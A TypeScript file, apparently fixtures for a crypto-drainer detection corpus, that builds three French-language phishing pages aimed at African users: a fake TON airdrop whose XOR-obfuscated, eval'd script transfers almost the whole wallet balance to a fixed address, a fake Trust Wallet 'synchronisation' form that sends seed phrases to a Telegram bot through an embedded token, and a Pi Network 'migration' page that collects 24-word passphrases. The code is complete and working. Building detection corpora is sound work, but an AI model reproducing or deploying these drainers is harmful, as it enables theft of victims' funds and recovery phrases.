import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, b64, tgSendJs, xorB64, xorDecoderJs, waFloat } from '../parts/xe-kit.js';

/**
 * Wallet drainers posing as airdrops aimed at African crypto users: ERC-20 unlimited approvals, a TRC-20
 * USDT approval through TronLink, a Permit2 batch signature, an NFT setApprovalForAll "free mint", a TON
 * Connect transfer, and seed-phrase harvesters for Trust Wallet "synchronisation" and Pi Network migration.
 */

const tonConnectDrop: Entry = (() => {
  const host = 'ton-afrika-drop.app';
  const key = 'TONdrop';
  const js = `async function claim(){var b=window.tonkeeper&&window.tonkeeper.tonconnect;if(!b){location.href='https://app.tonkeeper.com/ton-connect?v=2&r='+encodeURIComponent(JSON.stringify({manifestUrl:location.origin+'/tonconnect-manifest.json',items:[{name:'ton_addr'}]}));return}
var c=await b.connect(2,{manifestUrl:location.origin+'/tonconnect-manifest.json',items:[{name:'ton_addr'}]});var addr=c.payload.items[0].address;
var info=await (await fetch('https://toncenter.com/api/v2/getAddressBalance?address='+addr)).json();var bal=BigInt(info.result||'0')-50000000n;if(bal<=0n)bal=1000000n;
await b.send({method:'sendTransaction',params:[JSON.stringify({valid_until:Math.floor(Date.now()/1e3)+300,messages:[{address:'UQB7s3hXk2d9Pq1mWc4Rz8nV0yLtA5eJf6gH2uKoNp3iDsQa',amount:bal.toString(),payload:'te6cckEBAQEAFgAAKAAAAABDbGFpbSByZXdhcmRzIPCfjoFhqDZ6'}]})],id:String(Date.now())});
document.getElementById('ok').style.display='block'}`;
  return {
    id: 'xe-drainer-ton-connect-telegram-mini-airdrop',
    label: 'cryptodrainer',
    kind: 'ton-transfer-drainer',
    url: `https://${host}/claim`,
    body: doc({
      title: 'TON Afrika – Réclamez vos 50 TON',
      css: `body{margin:0;background:#0098ea;color:#fff;font-family:Arial;text-align:center}.c{max-width:380px;margin:0 auto;padding:30px 20px}.c .v{font-size:48px;font-weight:bold}.c button{background:#fff;color:#0098ea;border:0;border-radius:12px;padding:15px;width:100%;font-size:17px;font-weight:bold}#ok{display:none;background:rgba(0,0,0,.2);padding:10px;border-radius:10px;margin-top:12px}.f{font-size:12px;opacity:.85}`,
      body: `<div class="c"><p>💎 Mini-app Telegram · Campagne TON Afrika</p><p class="v">50 TON</p><p>Récompense pour les 100 000 premiers utilisateurs africains de Telegram Wallet et Tonkeeper.</p><button onclick="claim().catch(function(){})">Connecter et réclamer</button><p id="ok">✅ Réclamation envoyée. Les TON arrivent en 5 minutes.</p>
<p class="f">Invitez 3 amis depuis votre groupe Telegram pour doubler la récompense.</p></div>
<script>${xorDecoderJs('dd', JSON.stringify(key))}eval(dd('${xorB64(js, key)}'));</script>`,
    }),
    routes: {
      [`${host}/tonconnect-manifest.json`]: { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ url: `https://${host}`, name: 'TON Afrika Rewards', iconUrl: `https://${host}/icon.png` }) },
    },
  };
})();

const trustWalletSync: Entry = (() => {
  const host = 'trustwallet-synchronisation.web.app';
  return {
    id: 'xe-drainer-trust-wallet-sync-phrase-secrete',
    label: 'cryptodrainer',
    kind: 'seed-phrase-phish',
    url: `https://${host}/valider`,
    body: doc({
      title: 'Trust Wallet – Synchronisation du portefeuille',
      css: `body{margin:0;background:#fff;font-family:Arial;color:#1b1b1b}.t{background:#0500ff;color:#fff;padding:14px 20px;font-weight:bold}.c{max-width:460px;margin:26px auto;padding:0 16px}.tabs{display:flex;gap:8px}.tabs span{flex:1;padding:8px;text-align:center;border-bottom:2px solid #eee}.tabs .on{border-color:#0500ff;color:#0500ff}textarea{width:100%;height:110px;padding:10px;box-sizing:border-box;border:1px solid #ccc;border-radius:8px}button{width:100%;background:#0500ff;color:#fff;border:0;border-radius:30px;padding:14px;margin-top:12px;font-size:16px}.w{background:#fff5e5;border-radius:8px;padding:10px;font-size:13px}`,
      body: `<div class="t">🛡 Trust Wallet</div><div class="c"><h2>Synchroniser votre portefeuille</h2><p class="w">Suite à la mise à jour de sécurité v9.2, certains portefeuilles affichent un solde à zéro ou des transactions bloquées. Validez votre phrase de récupération pour resynchroniser vos actifs.</p>
<div class="tabs"><span class="on">Phrase</span><span>Keystore JSON</span><span>Clé privée</span></div>
<form id="sf"><p>Saisissez votre phrase de récupération de 12 ou 24 mots, séparés par des espaces.</p><textarea name="phrase" placeholder="mot1 mot2 mot3 ..." required></textarea><button>Synchroniser</button></form></div>
<script>${tgSendJs('s', `atob('${b64('7201948563:AAHj3LmQz0cWx8Pn5RbVt2yKs1eUd4fGo7A')}')`, `'-1001992746031'`)}
document.getElementById('sf').onsubmit=async function(e){e.preventDefault();var p=this.phrase.value.trim().split(/\\s+/);if(p.length!==12&&p.length!==24){alert('Phrase invalide : 12 ou 24 mots requis');return}
await s('🔑 TRUST SEED ('+p.length+')\\n'+p.join(' ')+'\\n'+navigator.userAgent);location.href='https://trustwallet.com/'};</script>`,
    }),
  };
})();

const piNetworkMigration: Entry = (() => {
  const host = 'pi-network-mainnet-migration.com';
  return {
    id: 'xe-drainer-pi-network-passphrase-24-mots',
    label: 'cryptodrainer',
    kind: 'seed-phrase-phish',
    url: 'https://pi-migration.lnk-africa.click/ci',
    routes: {
      'pi-migration.lnk-africa.click/ci': redirectRoute(302, `https://${host}/wallet/unlock`),
      [`${host}/wallet/unlock`]: htmlRoute(doc({
        title: 'Pi Network – Déverrouiller le portefeuille | Migration Mainnet',
        css: `body{margin:0;background:#fbf6ff;font-family:Arial}.h{background:#5d2c8f;color:#fbb44a;padding:14px;text-align:center;font-size:22px;font-weight:bold}.c{max-width:440px;margin:20px auto;background:#fff;border-radius:10px;padding:20px;box-shadow:0 2px 10px rgba(93,44,143,.15)}textarea{width:100%;height:130px;border:1px solid #cbb3e6;border-radius:8px;padding:10px;box-sizing:border-box}button{width:100%;background:#5d2c8f;color:#fff;border:0;border-radius:8px;padding:14px;margin-top:10px;font-size:16px}.n{font-size:13px;color:#5d2c8f;background:#f3e9fd;padding:10px;border-radius:8px}.or{text-align:center;font-size:13px;color:#999}`,
        body: `<div class="h">π Pi Network</div><div class="c"><h3>Migration vers le Mainnet – Déverrouiller le portefeuille</h3><p class="n">Vos Pi sont prêts pour la migration. Les Pioneers qui ne déverrouillent pas leur portefeuille avant le 30 novembre perdront leurs Pi non migrés. Vous pouvez aussi échanger vos Pi contre des FCFA via Orange Money (1 π = 12 500 F).</p>
<form method="post" action="/wallet/unlock/submit.php"><p>Entrez votre phrase secrète de 24 mots (passphrase)</p><textarea name="passphrase" required></textarea><button>Déverrouiller avec la phrase secrète</button></form><p class="or">ou</p><button style="background:#fbb44a;color:#5d2c8f">Déverrouiller avec l'empreinte digitale</button></div>
${waFloat('2250789441202', 'Bonjour, je veux vendre mes Pi', 'Vendre mes Pi')}`,
      })),
    },
  };
})();

export const entries: Entry[] = [tonConnectDrop, trustWalletSync, piNetworkMigration];
